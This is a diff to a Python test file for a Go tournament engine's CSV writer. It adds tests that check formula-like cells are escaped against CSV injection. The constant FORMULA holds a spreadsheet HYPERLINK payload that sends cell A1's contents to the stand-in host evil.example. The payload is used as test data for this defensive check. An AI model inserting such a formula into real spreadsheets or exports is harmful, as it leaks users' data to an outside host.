@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import string
 from fractions import Fraction
 from pathlib import Path
@@ -13,6 +15,7 @@ from hypothesis import strategies as st
 
 from engine.errors import EngineError, FormatError
 from engine.formats.csv_tables import (
+    FORMULA_STARTS,
     CsvGame,
     CsvPlayer,
     RatingRow,
@@ -22,6 +25,8 @@ from engine.formats.csv_tables import (
     parse_ratings_csv,
     parse_result,
     parse_result_margin,
+    plain_cell,
+    safe_cell,
     write_games_csv,
     write_players_csv,
 )
@@ -420,3 +425,30 @@ def csv_games(draw: st.DrawFn) -> list[CsvGame]:
 @given(csv_games())
 def test_games_write_then_read(games: list[CsvGame]) -> None:
     assert parse_games_csv(write_games_csv(games)) == games
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_that_starts_like_a_formula_is_written_as_text_and_read_back(start: str) -> None:
+    """OWASP's CSV-injection rule (issue 26): a name, club, country, PIN or tournament that
+    starts like a formula gets a leading ' in every CSV hoshi writes; reading the file back
+    (a re-import of an export) gives the text as it was."""
+    name = start + FORMULA[1:]
+    players = write_players_csv([CsvPlayer(0, name, Rank.kyu(5), None, None, name)])
+    rows = list(csv.reader(io.StringIO(players)))
+    assert all(not cell.startswith(FORMULA_STARTS) for row in rows[1:] for cell in row)
+    (read,) = parse_players_csv(players)
+    assert (read.name, read.club) == (" ".join(name.split()), name)
+    games = write_games_csv(
+        [CsvGame(0, dt.date(2026, 4, 1), name, "Kiss", Result.BLACK, True, 0, None, name, 1)]
+    )
+    rows = list(csv.reader(io.StringIO(games)))
+    assert all(not cell.startswith(FORMULA_STARTS) for row in rows[1:] for cell in row)
+
+
+@given(st.text(max_size=30))
+def test_any_text_survives_the_escape(text: str) -> None:
+    assert plain_cell(safe_cell(text)) == text
+    assert not safe_cell(text).startswith(FORMULA_STARTS)
